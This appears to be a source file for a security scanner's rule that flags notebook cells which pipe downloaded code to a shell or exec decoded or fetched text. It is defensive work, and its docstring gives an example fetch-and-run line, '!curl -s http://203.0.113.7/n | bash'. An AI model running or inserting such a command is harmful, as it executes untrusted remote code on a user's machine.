"""What it sees
    A notebook cell that downloads code and runs it in a shell (`!curl ... | sh`, `%%bash`), or that executes decoded
    or downloaded text in Python.

Why it matters
    "Run all" in a take-home notebook runs everything in it, and nobody reads the set-up cell.

Example
    !curl -s http://203.0.113.7/n | bash

What to do
    Do not run the notebook; read the cell.

False alarms
    Installing packages and fetching data are ordinary; they are not reported.

References
    ATT&CK T1059.006, T1105.
"""

import re
from collections.abc import Iterator

from lazaretto.detect.commands import on_request
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity, Signal
from lazaretto.model.text import N_
from lazaretto.parse.shell import analyse
from lazaretto.parse.workspace import Notebook

_MAGIC = re.compile(r"\s{0,20}%%(?:bash|sh|script\s{1,4}\w{1,12}|cmd|powershell)\b")
_EXECUTES = re.compile(r"(?<![\w.])(?:exec|eval)\s{0,4}\(\s{0,40}(?:compile\s{0,4}\(\s{0,10})?")
_NAME = re.compile(r"\s{0,20}([A-Za-z_]\w{0,60})\s{0,20}[,)]")
_GIVEN = re.compile(r"^[ \t]{0,40}([A-Za-z_]\w{0,60})[ \t]{0,4}=(?!=)([^\n]{1,400})", re.MULTILINE)
_DECODES = re.compile(r"b64decode|b32decode|a85decode|unhexlify|fromhex|zlib\.decompress|marshal\.loads|codecs\.decode")
_FETCHES = re.compile(r"requests\.(?:get|post)|urlopen|httpx\.|urllib3")


def check(view: Notebook) -> Iterator[Match | Signal]:
    """Look at each code cell."""
    for source, line in view.cells():
        text = _shell_of(source)
        if text:
            danger = on_request(analyse(text))
            if danger is not None:
                yield danger.match(view.blob.name, line, text)
        for found in _EXECUTES.finditer(source[:100_000]):
            argument = source[found.end() : found.end() + 300].split("\n", 1)[0]
            if _DECODES.search(argument) or _FETCHES.search(argument) or _fetched_before(source, argument):
                yield Match(
                    N_("a notebook cell executes text that it has just decoded or downloaded"),
                    line=line + source.count("\n", 0, found.start()),
                    excerpt=found.group() + argument[:120],
                    severity=Severity.HIGH,
                    confidence=Confidence.HIGH,
                )
                break


def _fetched_before(source: str, argument: str) -> bool:
    """Tell whether the executed name was given downloaded or decoded text in the same cell."""
    name = _NAME.match(argument)
    return name is not None and any(
        given[1] == name[1] and (_DECODES.search(given[2]) or _FETCHES.search(given[2]))
        for given in _GIVEN.finditer(source[:100_000])
    )


def _shell_of(source: str) -> str:
    if _MAGIC.match(source):
        return "\n" + source.partition("\n")[2]
    rows = [row.lstrip()[1:] if row.lstrip().startswith("!") else "" for row in source.split("\n")[:5000]]
    return "\n".join(rows) if any(rows) else ""


RULE = Rule(
    id="repo/notebook-runs-foreign-code",
    title=N_("A notebook cell runs downloaded or decoded code"),
    view=Notebook,
    severity=Severity.LOW,
    confidence=Confidence.MEDIUM,
    phase=Phase.RUN,
    role=Role.EXECUTE,
    check=check,
    doc=__doc__,
    techniques=("T1059.006", "T1105"),
    needles=(b"curl", b"wget", b"exec(", b"eval(", b"base64", b"powershell"),
)
